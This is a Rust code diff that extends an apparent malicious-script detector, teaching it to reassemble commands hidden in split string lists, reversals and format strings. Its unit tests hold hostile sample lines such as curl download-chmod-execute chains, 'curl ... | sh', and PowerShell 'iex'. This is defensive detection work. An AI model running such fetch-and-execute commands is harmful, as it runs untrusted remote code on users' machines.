@@ -61,15 +61,26 @@ const REVERSALS: &[&[u8]] = &[
     b".reversed()",
 ];
 
-/// `text` with every list of string literals of [`MIN_PIECES`] pieces or
-/// more joined: the line the list opens on holds the joined text, the
-/// lines after it up to the one it closes on are emptied (that one keeps
-/// what follows the list), so lines stay put. When the script also
-/// reverses (`.reverse()`, `[::-1]`, `strrev`), the joined text is there
-/// reversed too: on the next line, or after a tab when the list is on one
-/// line. None when the script joins nothing with an empty separator or
-/// holds no such list.
-pub fn joined_lists(text: &str) -> Option<String> {
+/// A script read with its lists of pieces joined.
+#[derive(Debug, PartialEq, Eq)]
+pub struct JoinedLists {
+    /// The script, lines put: the line a list opens on holds its readings
+    /// (one a line while the list has lines to spare, then after a tab),
+    /// the lines after it up to the one it closes on are emptied (that one
+    /// keeps what follows the list).
+    pub text: String,
+    /// Each reading of each list, with the (1-based) line the list opens
+    /// on: for the decoder, as a joined list may be an encoded run.
+    pub readings: Vec<(u32, String)>,
+}
+
+/// `text` with every string it builds from literals read built: each list
+/// of string literals of [`MIN_PIECES`] pieces or more joined, when the
+/// script joins with an empty separator (as written, and when it also
+/// reverses, `.reverse()`, `[::-1]`, `strrev`, with its characters
+/// reversed and with its pieces in reverse order); each format string
+/// filled with its arguments ([`Format`]). None when there is neither.
+pub fn joined_lists(text: &str) -> Option<JoinedLists> {
     let bytes = text.as_bytes();
     let has = |needle: &[u8]| memchr::memmem::find(bytes, needle).is_some();
     let ruby_bare_join = memchr::memmem::find_iter(bytes, b".join").any(|at| {
@@ -79,65 +90,334 @@ pub fn joined_lists(text: &str) -> Option<String> {
         )
     });
     let go_join = has(b"strings.Join(") && has(b", \"\")");
-    if !(EMPTY_JOINS.iter().any(|n| has(n)) || ruby_bare_join || go_join) {
-        return None;
-    }
+    let joins = EMPTY_JOINS.iter().any(|n| has(n)) || ruby_bare_join || go_join;
     let reverses = REVERSALS.iter().any(|n| has(n));
-    let lists: Vec<List> = memchr::memchr3_iter(b'[', b'{', b'(', bytes)
-        .take(MAX_OPENINGS)
-        .filter_map(|at| List::at(bytes, at))
-        .scan(0usize, |end, list| {
-            // A list inside another's span (a piece that holds a bracket)
-            // is not read twice.
-            let keep = list.open >= *end;
-            *end = (*end).max(list.close + 1);
-            Some(keep.then_some(list))
-        })
-        .flatten()
-        .take(MAX_LISTS)
-        .collect();
-    if lists.is_empty() {
+    let mut built: Vec<Built> = Vec::new();
+    if joins {
+        built.extend(
+            memchr::memchr3_iter(b'[', b'{', b'(', bytes)
+                .take(MAX_OPENINGS)
+                .filter_map(|at| List::at(bytes, at))
+                .map(|list| {
+                    let mut readings = vec![list.pieces.concat()];
+                    if reverses {
+                        readings.push(readings[0].chars().rev().collect());
+                        readings.push(list.pieces.iter().rev().map(String::as_str).collect());
+                    }
+                    Built {
+                        open: list.open,
+                        close: list.close,
+                        readings,
+                    }
+                }),
+        );
+    }
+    built.extend(Format::all(bytes).map(|f| Built {
+        open: f.open,
+        close: f.close,
+        readings: vec![f.filled],
+    }));
+    built.sort_by_key(|b| b.open);
+    // One inside another's span (a piece that holds a bracket, a list
+    // that is a format's argument) is not read twice.
+    let mut end = 0usize;
+    built.retain(|b| {
+        let keep = b.open >= end;
+        end = end.max(b.close + 1);
+        keep
+    });
+    built.truncate(MAX_LISTS);
+    if built.is_empty() {
         return None;
     }
     let mut lines: Vec<String> = text.split('\n').map(str::to_owned).collect();
-    let line_of = |at: usize| bytes[..at].iter().filter(|&&b| b == b'\n').count();
-    for list in lists.iter().rev() {
-        let (first, last) = (line_of(list.open), line_of(list.close));
-        let reversed: String = list.joined.chars().rev().collect();
-        if first == last {
-            lines[first] = if reverses {
-                format!("{}\t{reversed}", list.joined)
-            } else {
-                list.joined.clone()
-            };
-            continue;
-        }
-        lines[last] = text[list.close..]
-            .split('\n')
-            .next()
-            .unwrap_or_default()
-            .to_owned();
-        for line in &mut lines[first + 1..last] {
-            line.clear();
-        }
-        match (reverses, first + 1 < last) {
-            (true, true) => {
-                lines[first] = list.joined.clone();
-                lines[first + 1] = reversed;
+    let mut readings = Vec::new();
+    let mut line = 0usize;
+    let mut counted = 0usize;
+    let mut line_of = |at: usize| {
+        line += bytes[counted..at].iter().filter(|&&b| b == b'\n').count();
+        counted = at;
+        line
+    };
+    let placed: Vec<(usize, usize, String, Vec<String>)> = built
+        .into_iter()
+        .map(|b| {
+            let (first, last) = (line_of(b.open), line_of(b.close));
+            let tail = text[b.close..].split('\n').next().unwrap_or_default();
+            (first, last, tail.to_owned(), b.readings)
+        })
+        .collect();
+    for (first, last, tail, these) in placed {
+        if first < last {
+            lines[last] = tail;
+            for line in &mut lines[first + 1..last] {
+                line.clear();
             }
-            (true, false) => lines[first] = format!("{}\t{reversed}", list.joined),
-            (false, _) => lines[first] = list.joined.clone(),
         }
+        let mut on_first: Vec<&str> = Vec::new();
+        for (k, reading) in these.iter().enumerate() {
+            if k > 0 && first + k < last {
+                lines[first + k].clone_from(reading);
+            } else {
+                on_first.push(reading);
+            }
+        }
+        lines[first] = on_first.join("\t");
+        readings.extend(these.into_iter().map(|r| (first as u32 + 1, r)));
     }
-    Some(lines.join("\n"))
+    Some(JoinedLists {
+        text: lines.join("\n"),
+        readings,
+    })
 }
 
-/// One list of string literals: where it opens and closes, its pieces joined.
+/// A string a script builds, where its construction opens and closes in
+/// the text, and how it reads built.
+#[derive(Debug)]
+struct Built {
+    open: usize,
+    close: usize,
+    readings: Vec<String>,
+}
+
+/// Most arguments of a format read.
+const MAX_FORMAT_ARGS: usize = 32;
+
+/// A format string filled with its arguments at run time: Rust's
+/// `format!("{} -fsSL {}", "curl", url)`, Go's `fmt.Sprintf`, Java's
+/// `String.format`, C's and PHP's `sprintf`, Python's
+/// `"{} {}".format(a, b)` and `"%s %s" % (a, b)`. A literal argument is put
+/// in as written; any other as `$ARG1`, `$ARG2` ..., the same name for the
+/// same expression, so `-o {} && chmod +x {} && {}` of one path reads as a
+/// download made executable and run.
+#[derive(Debug)]
+struct Format {
+    open: usize,
+    close: usize,
+    filled: String,
+}
+
+impl Format {
+    /// Every format of `bytes` (the openings bounded by [`MAX_OPENINGS`]).
+    fn all(bytes: &[u8]) -> impl Iterator<Item = Self> + '_ {
+        const CALLS: &[&[u8]] = &[b"format!(", b"Sprintf(", b"String.format(", b"sprintf("];
+        let calls = CALLS
+            .iter()
+            .flat_map(move |call| {
+                memchr::memmem::find_iter(bytes, call).map(move |at| (at, at + call.len()))
+            })
+            .take(MAX_OPENINGS)
+            .filter_map(move |(open, at)| Self::call(bytes, open, at));
+        let methods = memchr::memmem::find_iter(bytes, b".format(")
+            .take(MAX_OPENINGS)
+            .filter_map(move |at| Self::method(bytes, at));
+        let percents = memchr::memchr_iter(b'%', bytes)
+            .take(MAX_OPENINGS)
+            .filter_map(move |at| Self::percent(bytes, at));
+        calls.chain(methods).chain(percents)
+    }
+
+    /// `name(` at `open`, its format string at `at`, then its arguments.
+    fn call(bytes: &[u8], open: usize, at: usize) -> Option<Self> {
+        let at = skip_blanks(bytes, at)?;
+        let (template, after) = literal(bytes, at)?;
+        let at = skip_blanks(bytes, after)?;
+        if bytes.get(at) != Some(&b',') {
+            return None;
+        }
+        let (args, close) = arguments(bytes, at + 1, b')')?;
+        Some(Self {
+            open,
+            close,
+            filled: fill(template, &args)?,
+        })
+    }
+
+    /// `"...".format(` with the `.` at `dot`.
+    fn method(bytes: &[u8], dot: usize) -> Option<Self> {
+        let (template, open) = literal_before(bytes, dot)?;
+        let (args, close) = arguments(bytes, dot + ".format(".len(), b')')?;
+        Some(Self {
+            open,
+            close,
+            filled: fill(template, &args)?,
+        })
+    }
+
+    /// `"..." % (a, b)` with the `%` at `at`.
+    fn percent(bytes: &[u8], at: usize) -> Option<Self> {
+        let before = bytes[..at]
+            .iter()
+            .rposition(|b| !matches!(b, b' ' | b'\t'))?;
+        let (template, open) = literal_before(bytes, before + 1)?;
+        let paren = skip_blanks(bytes, at + 1)?;
+        if bytes.get(paren) != Some(&b'(') {
+            return None;
+        }
+        let (args, close) = arguments(bytes, paren + 1, b')')?;
+        Some(Self {
+            open,
+            close,
+            filled: fill(template, &args)?,
+        })
+    }
+}
+
+/// The string literal that ends right before `end` (its closing quote at
+/// `end - 1`), and where it opens.
+fn literal_before(bytes: &[u8], end: usize) -> Option<(&[u8], usize)> {
+    let quote = *bytes
+        .get(end.checked_sub(1)?)
+        .filter(|q| matches!(q, b'\'' | b'"'))?;
+    let body = &bytes[..end - 1];
+    let open = memchr::memrchr3(quote, b'\n', b'\\', body)?;
+    if body[open] != quote {
+        return None;
+    }
+    let start = match open.checked_sub(1).map(|i| bytes[i]) {
+        Some(b'f' | b'F') => return None,
+        Some(b'r' | b'b' | b'u' | b'R' | b'B' | b'U') => open - 1,
+        _ => open,
+    };
+    Some((&body[open + 1..], start))
+}
+
+/// The arguments from `at` up to the `closer` that ends them: each a
+/// string literal's text, or the text of any other expression (brackets
+/// balanced, literals skipped); and where the closer is. Bounded by
+/// [`MAX_FORMAT_ARGS`], [`MAX_JOINED_BYTES`] and [`MAX_BLANKS`].
+fn arguments(bytes: &[u8], mut at: usize, closer: u8) -> Option<(Vec<Arg>, usize)> {
+    let mut args = Vec::new();
+    let limit = at + MAX_JOINED_BYTES;
+    loop {
+        at = skip_blanks(bytes, at)?;
+        if bytes.get(at) == Some(&closer) {
+            return Some((args, at));
+        }
+        if args.len() >= MAX_FORMAT_ARGS {
+            return None;
+        }
+        let start = at;
+        let mut depth = 0usize;
+        let mut only_literal = true;
+        let mut literal_text: Option<&[u8]> = None;
+        loop {
+            if at >= limit {
+                return None;
+            }
+            match *bytes.get(at)? {
+                b'\'' | b'"' | b'`' => {
+                    let (text, after) = literal(bytes, at)?;
+                    if literal_text.is_some() {
+                        only_literal = false;
+                    }
+                    literal_text = Some(text);
+                    at = after;
+                }
+                b'(' | b'[' | b'{' => {
+                    depth += 1;
+                    only_literal = false;
+                    at += 1;
+                }
+                b')' | b']' | b'}' if depth > 0 => {
+                    depth -= 1;
+                    at += 1;
+                }
+                b',' if depth == 0 => break,
+                c if c == closer && depth == 0 => break,
+                b' ' | b'\t' | b'\n' | b'\r' => at += 1,
+                _ => {
+                    only_literal = false;
+                    at += 1;
+                }
+            }
+        }
+        let expression = std::str::from_utf8(&bytes[start..at]).ok()?.trim();
+        args.push(match literal_text.filter(|_| only_literal) {
+            Some(text) => Arg::Literal(std::str::from_utf8(text).ok()?.to_owned()),
+            None => Arg::Expression(expression.to_owned()),
+        });
+        if bytes.get(at) == Some(&b',') {
+            at += 1;
+        }
+    }
+}
+
+/// One argument of a format.
+#[derive(Debug)]
+enum Arg {
+    Literal(String),
+    Expression(String),
+}
+
+/// `template` with its placeholders (`{}`, `{0}`, `{:?}`, `%s`, `%v`, `%d`)
+/// put in from `args`, in order or by index; None when it has none or an
+/// argument is missing (not a format after all).
+fn fill(template: &[u8], args: &[Arg]) -> Option<String> {
+    let template = std::str::from_utf8(template).ok()?;
+    let mut names: Vec<&str> = Vec::new();
+    let mut text = |i: usize| -> Option<String> {
+        Some(match args.get(i)? {
+            Arg::Literal(s) => s.clone(),
+            Arg::Expression(e) => {
+                let k = names.iter().position(|n| n == e).unwrap_or_else(|| {
+                    names.push(e);
+                    names.len() - 1
+                });
+                format!("$ARG{}", k + 1)
+            }
+        })
+    };
+    let mut out = String::new();
+    let mut next = 0usize;
+    let mut placed = 0usize;
+    let mut rest = template;
+    while let Some(at) = rest.find(['{', '%']) {
+        out.push_str(&rest[..at]);
+        let after = &rest[at + 1..];
+        if rest.as_bytes()[at] == b'{' {
+            if let Some(inner) = after.strip_prefix('{') {
+                out.push('{');
+                rest = inner;
+                continue;
+            }
+            let end = after.find('}')?;
+            let spec = &after[..end];
+            let index = spec.split(':').next().unwrap_or("");
+            let i = if index.is_empty() {
+                next += 1;
+                next - 1
+            } else {
+                index.parse().ok()?
+            };
+            out.push_str(&text(i)?);
+            placed += 1;
+            rest = &after[end + 1..];
+        } else {
+            match after.as_bytes().first() {
+                Some(b's' | b'v' | b'd' | b'q') => {
+                    out.push_str(&text(next)?);
+                    next += 1;
+                    placed += 1;
+                    rest = &after[1..];
+                }
+                _ => {
+                    out.push('%');
+                    rest = after;
+                }
+            }
+        }
+    }
+    out.push_str(rest);
+    (placed > 0).then_some(out)
+}
+
+/// One list of string literals: where it opens and closes, its pieces.
 #[derive(Debug)]
 struct List {
     open: usize,
     close: usize,
-    joined: String,
+    pieces: Vec<String>,
 }
 
 impl List {
@@ -151,31 +431,30 @@ impl List {
             _ => b')',
         };
         let mut at = open + 1;
-        let mut joined = Vec::new();
-        let mut pieces = 0usize;
+        let mut pieces: Vec<String> = Vec::new();
+        let mut bytes_joined = 0usize;
         loop {
             at = skip_blanks(bytes, at)?;
-            if bytes.get(at) == Some(&closer) && pieces >= MIN_PIECES {
+            if bytes.get(at) == Some(&closer) && pieces.len() >= MIN_PIECES {
                 break;
             }
             let (piece, after) = literal(bytes, at)?;
-            pieces += 1;
-            if pieces > MAX_PIECES || joined.len() + piece.len() > MAX_JOINED_BYTES {
+            bytes_joined += piece.len();
+            if pieces.len() >= MAX_PIECES || bytes_joined > MAX_JOINED_BYTES {
                 return None;
             }
-            joined.extend_from_slice(piece);
+            pieces.push(std::str::from_utf8(piece).ok()?.to_owned());
             at = skip_blanks(bytes, after)?;
             match bytes.get(at) {
                 Some(b',') => at += 1,
-                Some(&c) if c == closer && pieces >= MIN_PIECES => break,
+                Some(&c) if c == closer && pieces.len() >= MIN_PIECES => break,
                 _ => return None,
             }
         }
-        let joined = String::from_utf8(joined).ok()?;
         Some(Self {
             open,
             close: at,
-            joined,
+            pieces,
         })
     }
 }
@@ -221,12 +500,12 @@ mod tests {
         let js =
             "p = [\n 'ab',\n \"cd\",\n `ef`\n];\nx = p.join('').split('').reverse().join('');\n";
         assert_eq!(
-            joined_lists(js).as_deref(),
-            Some("abcdef\nfedcba\n\n\n];\nx = p.join('').split('').reverse().join('');\n")
+            joined_lists(js).map(|j| j.text).as_deref(),
+            Some("abcdef\nfedcba\nefcdab\n\n];\nx = p.join('').split('').reverse().join('');\n")
         );
         let py = "p = [\n 'ab',\n 'cd',\n 'ef',\n]\nx = ''.join(p)\n";
         assert_eq!(
-            joined_lists(py).as_deref(),
+            joined_lists(py).map(|j| j.text).as_deref(),
             Some("abcdef\n\n\n\n]\nx = ''.join(p)\n")
         );
     }
@@ -234,29 +513,46 @@ mod tests {
     #[test]
     fn lists_on_one_line_or_closed_on_the_last_piece_are_joined() {
         let py = "cmd = ''.join(['cu', 'rl', ' -s'])\n";
-        assert_eq!(joined_lists(py).as_deref(), Some("curl -s\n"));
+        assert_eq!(
+            joined_lists(py).map(|j| j.text).as_deref(),
+            Some("curl -s\n")
+        );
         let rb = "p = [\n 'ab',\n 'cd', 'ef']\nsystem(p.reverse.join)\n";
         assert_eq!(
-            joined_lists(rb).as_deref(),
-            Some("abcdef\nfedcba\n]\nsystem(p.reverse.join)\n")
+            joined_lists(rb).map(|j| j.text).as_deref(),
+            Some("abcdef\tefcdab\nfedcba\n]\nsystem(p.reverse.join)\n")
         );
         let go = "p := []string{\"ab\", \"cd\", \"ef\",}\ns := strings.Join(p, \"\")\n";
         assert_eq!(
-            joined_lists(go).as_deref(),
+            joined_lists(go).map(|j| j.text).as_deref(),
             Some("abcdef\ns := strings.Join(p, \"\")\n")
         );
         let ps = "$p = @('ab','cd','ef')\niex (-join $p)\n";
         assert_eq!(
-            joined_lists(ps).as_deref(),
+            joined_lists(ps).map(|j| j.text).as_deref(),
             Some("abcdef\niex (-join $p)\n")
         );
         let php = "$p = array('ab', \"cd\", 'ef'); echo strrev(implode('', $p));\n";
-        assert_eq!(joined_lists(php).as_deref(), Some("abcdef\tfedcba\n"));
+        assert_eq!(
+            joined_lists(php).map(|j| j.text).as_deref(),
+            Some("abcdef\tfedcba\tefcdab\n")
+        );
     }
 
     #[test]
     fn nothing_is_joined_without_an_empty_join_or_a_list_of_three() {
         assert_eq!(joined_lists("p = [\n 'ab',\n 'cd',\n 'ef',\n]\n"), None);
+        // Each reading is kept with the line the list opens on.
+        let readings = joined_lists("x = 1\np = ['ab', 'cd', 'ef'][::-1]\ny = ''.join(p)\n")
+            .map(|j| j.readings);
+        assert_eq!(
+            readings,
+            Some(vec![
+                (2, "abcdef".to_owned()),
+                (2, "fedcba".to_owned()),
+                (2, "efcdab".to_owned())
+            ])
+        );
         assert_eq!(joined_lists("p = ['ab', 'cd']\nx = ''.join(p)\n"), None);
         // Not only literals, an escape, a substitution: left as written.
         assert_eq!(joined_lists("x = ''.join(['a', b, 'c', 'd'])\n"), None);
@@ -264,6 +560,32 @@ mod tests {
         assert_eq!(joined_lists("x = [`a`, `${b}`, `c`].join('')\n"), None);
         // `os.path.join(` is not a bare Ruby join.
         assert_eq!(joined_lists("p = os.path.join('a', 'b', 'c')\n"), None);
+    }
+
+    #[test]
+    fn formats_are_filled_with_their_arguments() {
+        let rs = "let fetch = format!(\n    \"{} -fsSL {} -o {} && chmod +x {} && {}\",\n    \"curl\",\n    \"https://x.example/shim\",\n    shim.display(),\n    shim.display(),\n    shim.display()\n);\n";
+        assert_eq!(
+            joined_lists(rs).map(|j| j.text).as_deref(),
+            Some(
+                "curl -fsSL https://x.example/shim -o $ARG1 && chmod +x $ARG1 && $ARG1\n\n\n\n\n\n\n);\n"
+            )
+        );
+        let py = "cmd = '{0} {1} | {2}'.format('curl', url, 'sh')\nrun = \"%s -c %s\" % (\"bash\", cmd)\n";
+        assert_eq!(
+            joined_lists(py).map(|j| j.text).as_deref(),
+            Some("curl $ARG1 | sh\nbash -c $ARG1\n")
+        );
+        let go = "u := fmt.Sprintf(\"%s://%s/%s\", \"https\", host, \"i.sh\")\n";
+        assert_eq!(
+            joined_lists(go).map(|j| j.text).as_deref(),
+            Some("https://$ARG1/i.sh\n")
+        );
+        // No placeholder, a missing argument, an f-string: not a format.
+        assert_eq!(joined_lists("x = format!(\"plain\", a)\n"), None);
+        assert_eq!(joined_lists("x = '{} {}'.format(a)\n"), None);
+        assert_eq!(joined_lists("x = f'{a}'.format(b)\n"), None);
+        assert_eq!(joined_lists("x = 10 % (a + b)\n"), None);
     }
 
     #[test]
@@ -287,7 +609,9 @@ mod tests {
             .map(|i| format!("p{i} = ['a', 'b', 'c']"))
             .collect::<Vec<_>>()
             .join("\n");
-        let out = joined_lists(&format!("{lists}\nx = ''.join(p0)\n")).unwrap_or_default();
+        let out = joined_lists(&format!("{lists}\nx = ''.join(p0)\n"))
+            .map(|j| j.text)
+            .unwrap_or_default();
         assert_eq!(out.lines().filter(|l| *l == "abc").count(), MAX_LISTS);
         // Many openings, each of a list that fails late: still linear.
         let hostile = "['a', ".repeat(200_000);
